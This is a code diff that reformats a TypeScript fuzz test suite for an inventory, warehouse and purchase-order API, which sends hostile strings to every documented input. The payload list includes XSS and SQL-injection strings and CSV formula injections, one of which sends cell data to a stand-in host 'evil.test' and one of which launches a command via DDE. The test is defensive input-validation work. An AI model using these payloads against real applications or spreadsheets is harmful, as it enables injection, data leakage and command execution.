@@ -17,7 +17,8 @@ let targets: Target[];
 let baselines: Record<string, Json>;
 let urls: Record<string, string>;
 
-const first = async (url: string) => (await t.request('GET', url, { role: 'admin' })).body.data?.[0] ?? (await t.request('GET', url, { role: 'admin' })).body.users?.[0];
+const first = async (url: string) =>
+  (await t.request('GET', url, { role: 'admin' })).body.data?.[0] ?? (await t.request('GET', url, { role: 'admin' })).body.users?.[0];
 
 beforeAll(async () => {
   t = await createTestApp();
@@ -30,20 +31,45 @@ beforeAll(async () => {
   const record = await first('/api/inventory?limit=1');
   const category = (await t.request('GET', '/api/categories/main', { role: 'admin' })).body.MainCategories[0];
   const user = {
-    firstname: 'Fuzz', lastname: 'Target', email: 'fuzz.target@example.com', phonenumber: '+91 70000 11111', password: 'fuzz-secret',
-    address: '1 Street', city_id: city._id, role: 'customer', status: 'active',
+    firstname: 'Fuzz',
+    lastname: 'Target',
+    email: 'fuzz.target@example.com',
+    phonenumber: '+91 70000 11111',
+    password: 'fuzz-secret',
+    address: '1 Street',
+    city_id: city._id,
+    role: 'customer',
+    status: 'active',
   };
   const made = await t.request('POST', '/api/users/create', { role: 'admin', body: user });
   expect(made.status).toBe(201);
   const cityBody = { name: 'Fuzz City', state: 'State', district: 'District', pincode: '123456', wards: ['Ward 1'], is_active: true };
   const warehouseBody = {
-    name: 'Fuzz Warehouse', city_id: city._id, address: '1 Road', status: 'active', description: 'd', contact_person: 'Person',
-    contact_phone: '+91 90000 00000', contact_email: 'fuzz@example.com',
+    name: 'Fuzz Warehouse',
+    city_id: city._id,
+    address: '1 Road',
+    status: 'active',
+    description: 'd',
+    contact_person: 'Person',
+    contact_phone: '+91 90000 00000',
+    contact_email: 'fuzz@example.com',
   };
   const productBody = {
-    productname: 'Fuzz Product', product_hindi: 'फ़ज़', category: category.name, subcategory: category.subcategories?.[0]?.name ?? 'x',
-    product_keyword: 'Brand', price: 10, discount_price: 9, product_description: 'A product', unit: 'kg', unit_value: '1',
-    gst_rate: 5, gst_type: 'GST', hsn_code: '1234', main_image: [], colors: [],
+    productname: 'Fuzz Product',
+    product_hindi: 'फ़ज़',
+    category: category.name,
+    subcategory: category.subcategories?.[0]?.name ?? 'x',
+    product_keyword: 'Brand',
+    price: 10,
+    discount_price: 9,
+    product_description: 'A product',
+    unit: 'kg',
+    unit_value: '1',
+    gst_rate: 5,
+    gst_type: 'GST',
+    hsn_code: '1234',
+    main_image: [],
+    colors: [],
   };
   const stock = { product_id: product._id, warehouse_id: warehouse._id };
   // Declared resources (issue 16): a category and subcategory of their own, so renaming them leaves the products' alone.
@@ -67,7 +93,13 @@ beforeAll(async () => {
     'POST /api/inventory': { ...stock, current_stock: 0, minimum_stock: 0, maximum_stock: 0, unit_cost: 1, location: 'A1', notes: 'n' },
     'PUT /api/inventory/{id}': { minimum_stock: 1, location: 'A1', notes: 'n' },
     'POST /api/inventory/add-stock': {
-      ...stock, quantity: 1, unit_cost: 1, movement_reason: 'adjustment', reference_id: 'R1', reference_type: 'manual', notes: 'n',
+      ...stock,
+      quantity: 1,
+      unit_cost: 1,
+      movement_reason: 'adjustment',
+      reference_id: 'R1',
+      reference_type: 'manual',
+      notes: 'n',
     },
     'POST /api/inventory/adjust-stock': { ...stock, new_stock: 5, notes: 'n' },
     'POST /api/inventory/remove-stock': { ...stock, quantity: 1, movement_type: 'damaged', notes: 'n' },
@@ -81,8 +113,18 @@ beforeAll(async () => {
     'PUT /api/permissions': DEFAULT_POLICY,
     'POST /api/stock-takes': { warehouse_id: warehouse._id, blind: true },
     'PUT /api/stock-takes/{id}/counts': { lines: [{ product_id: product._id, counted: 1 }] },
-    'POST /api/transfers': { from_warehouse_id: warehouse._id, to_warehouse_id: otherWarehouse._id, lines: [{ product_id: product._id, quantity: 1 }], notes: 'n' },
-    'PUT /api/transfers/{id}': { from_warehouse_id: warehouse._id, to_warehouse_id: otherWarehouse._id, lines: [{ product_id: product._id, quantity: 2 }], notes: 'n' },
+    'POST /api/transfers': {
+      from_warehouse_id: warehouse._id,
+      to_warehouse_id: otherWarehouse._id,
+      lines: [{ product_id: product._id, quantity: 1 }],
+      notes: 'n',
+    },
+    'PUT /api/transfers/{id}': {
+      from_warehouse_id: warehouse._id,
+      to_warehouse_id: otherWarehouse._id,
+      lines: [{ product_id: product._id, quantity: 2 }],
+      notes: 'n',
+    },
     'POST /api/transfers/{id}/receive': { lines: [{ product_id: product._id, quantity: 1 }], close: false, note: 'n' },
     'POST /api/transfers/{id}/cancel': { note: 'n' },
     // text/csv: its bytes are fuzzed by tests/api/product-import.test.ts; here only its query.
@@ -92,7 +134,13 @@ beforeAll(async () => {
   };
   // Purchase orders (issue 31): a draft to edit, and an ordered one for the steps (a step its status refuses is a documented 409).
   const seller = (await t.request('GET', '/api/users/by-role/seller', { role: 'admin' })).body.data[0];
-  const order = { seller_id: seller._id, warehouse_id: warehouse._id, expected_on: '2026-12-01', notes: 'n', lines: [{ product_id: product._id, quantity: 5, unit_cost: 10 }] };
+  const order = {
+    seller_id: seller._id,
+    warehouse_id: warehouse._id,
+    expected_on: '2026-12-01',
+    notes: 'n',
+    lines: [{ product_id: product._id, quantity: 5, unit_cost: 10 }],
+  };
   const step = { lines: [{ product_id: product._id, quantity: 1, batch_no: 'B1', expiry_date: '2027-01-31' }], notes: 'n', note: 'n' };
   Object.assign(baselines, {
     // Replenishment (issue 31): draft orders from suggestions, and the settings CSV (text/csv: only its query here).
@@ -104,20 +152,35 @@ beforeAll(async () => {
   const draftOrder = await t.request('POST', '/api/purchase-orders', { role: 'admin', body: order });
   const placedOrder = await t.request('POST', '/api/purchase-orders', { role: 'admin', body: order });
   expect([draftOrder.status, placedOrder.status]).toEqual([201, 201]);
-  const placed = await t.request('POST', `/api/purchase-orders/${placedOrder.body._id}/order`, { role: 'admin', headers: { 'idempotency-key': crypto.randomUUID() }, body: {} });
+  const placed = await t.request('POST', `/api/purchase-orders/${placedOrder.body._id}/order`, {
+    role: 'admin',
+    headers: { 'idempotency-key': crypto.randomUUID() },
+    body: {},
+  });
   expect(placed.status, JSON.stringify(placed.body)).toBe(200);
   const take = await t.request('POST', '/api/stock-takes', { role: 'admin', body: { warehouse_id: warehouse._id } });
   const transfer = await t.request('POST', '/api/transfers', { role: 'admin', body: baselines['POST /api/transfers'] });
   expect(transfer.status).toBe(201);
   const ids: Record<string, string> = {
-    '/api/cities/{id}': city._id, '/api/warehouses/{id}': warehouse._id, '/api/handling-charges/{id}': charge._id,
-    '/api/inventory/{id}': record._id, '/api/products/{id}': product._id, '/api/users/{id}': made.body._id,
-    '/api/inventory/by-city/{cityId}': city._id, '/api/stock-takes/{id}': take.body._id, '/api/stock-takes/{id}/counts': take.body._id,
-    '/api/stock-takes/{id}/apply': take.body._id, '/api/stock-takes/{id}/cancel': take.body._id,
-    '/api/inventory/{id}/batches': record._id, '/api/roles/{name}': 'sub-admin',
-    '/api/transfers/{id}': transfer.body._id, '/api/transfers/{id}/dispatch': transfer.body._id,
-    '/api/transfers/{id}/receive': transfer.body._id, '/api/transfers/{id}/cancel': transfer.body._id,
-    '/api/categories/{id}': fuzzCategory._id, '/api/subcategories/{id}': fuzzSubcategory._id,
+    '/api/cities/{id}': city._id,
+    '/api/warehouses/{id}': warehouse._id,
+    '/api/handling-charges/{id}': charge._id,
+    '/api/inventory/{id}': record._id,
+    '/api/products/{id}': product._id,
+    '/api/users/{id}': made.body._id,
+    '/api/inventory/by-city/{cityId}': city._id,
+    '/api/stock-takes/{id}': take.body._id,
+    '/api/stock-takes/{id}/counts': take.body._id,
+    '/api/stock-takes/{id}/apply': take.body._id,
+    '/api/stock-takes/{id}/cancel': take.body._id,
+    '/api/inventory/{id}/batches': record._id,
+    '/api/roles/{name}': 'sub-admin',
+    '/api/transfers/{id}': transfer.body._id,
+    '/api/transfers/{id}/dispatch': transfer.body._id,
+    '/api/transfers/{id}/receive': transfer.body._id,
+    '/api/transfers/{id}/cancel': transfer.body._id,
+    '/api/categories/{id}': fuzzCategory._id,
+    '/api/subcategories/{id}': fuzzSubcategory._id,
     '/api/purchase-orders/{id}': draftOrder.body._id,
     ...Object.fromEntries(['order', 'receive', 'return', 'close', 'cancel'].map((action) => [`/api/purchase-orders/{id}/${action}`, placedOrder.body._id])),
   };
@@ -168,7 +231,10 @@ function checkReply(target: Target, value: string, reply: Reply): void {
   // Characters PostgreSQL cannot store are refused by name, whatever else is wrong.
   if (unstorable(target, value)) {
     expect(reply.status, what).toBe(400);
-    expect(reply.body.errors.map((e: { field: string }) => e.field), what).toContain(target.isArray ? `${target.field}.0` : target.field);
+    expect(
+      reply.body.errors.map((e: { field: string }) => e.field),
+      what,
+    ).toContain(target.isArray ? `${target.field}.0` : target.field);
   }
 }
 
@@ -180,12 +246,29 @@ const HUGE = 'x'.repeat(100_000);
 const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));
 const hostile = fc.oneof(
   fc.constantFrom(
-    ...NASTY, '\u0000', '\ud800', ' ', '', '-1', '1e309', 'NaN', '%00', '😀', '\u202e', '<script>alert(1)</script>',
-    "' OR 1=1 --", "'; drop table users; --",
+    ...NASTY,
+    '\u0000',
+    '\ud800',
+    ' ',
+    '',
+    '-1',
+    '1e309',
+    'NaN',
+    '%00',
+    '😀',
+    '\u202e',
+    '<script>alert(1)</script>',
+    "' OR 1=1 --",
+    "'; drop table users; --",
     // Spreadsheet formulas (stored as typed; every CSV writes them as text: tests/unit/csv-cells.test.ts).
-    '=HYPERLINK("http://evil.test/?"&A1,"Open")', "=cmd|' /C calc'!A0", '+SUM(1)', '@SUM(1)',
+    '=HYPERLINK("http://evil.test/?"&A1,"Open")',
+    "=cmd|' /C calc'!A0",
+    '+SUM(1)',
+    '@SUM(1)',
     // Days out of the calendar or the range (every date field: the test below).
-    '0000-01-01', '9999-12-31', '2026-02-30',
+    '0000-01-01',
+    '9999-12-31',
+    '2026-02-30',
   ),
   // Node refuses a request line over 16 kB before any route runs: in a query a "huge" value is 8 kB.
   fc.constant(HUGE),
@@ -197,7 +280,10 @@ const hostile = fc.oneof(
 describe('arbitrary strings in every documented input', () => {
   it('has a valid baseline body for every documented write', () => {
     const writes = Object.entries(doc.paths as Json).flatMap(([path, ops]) =>
-      Object.entries(ops as Json).filter(([, op]) => op.requestBody).map(([m]) => `${m.toUpperCase()} ${path}`));
+      Object.entries(ops as Json)
+        .filter(([, op]) => op.requestBody)
+        .map(([m]) => `${m.toUpperCase()} ${path}`),
+    );
     expect(writes.filter((w) => !baselines[w])).toEqual([]);
     expect(targets.filter((x) => x.kind === 'query').length).toBeGreaterThan(40);
     expect(targets.filter((x) => x.kind === 'body').length).toBeGreaterThan(80);
@@ -217,7 +303,10 @@ describe('arbitrary strings in every documented input', () => {
         const reply = await send(target, value);
         checkReply(target, value, reply);
         expect(reply.status, `${nameOf(target)} = ${value}`).toBe(400);
-        expect(reply.body.errors.map((e: { field: string }) => e.field), `${nameOf(target)} = ${value}`).toContain(target.field);
+        expect(
+          reply.body.errors.map((e: { field: string }) => e.field),
+          `${nameOf(target)} = ${value}`,
+        ).toContain(target.field);
       }
     }
   }, 120_000);
@@ -254,7 +343,9 @@ describe('arbitrary strings in every documented input', () => {
         reporter: (run) => {
           if (!run.failed || !run.counterexample) return;
           const [index, value] = run.counterexample;
-          throw new Error(`${nameOf(targets[index]!)} = ${JSON.stringify(value.slice(0, 80))} (${value.length} chars, seed ${run.seed}): ${String(run.errorInstance).slice(0, 600)}`);
+          throw new Error(
+            `${nameOf(targets[index]!)} = ${JSON.stringify(value.slice(0, 80))} (${value.length} chars, seed ${run.seed}): ${String(run.errorInstance).slice(0, 600)}`,
+          );
         },
       },
     );
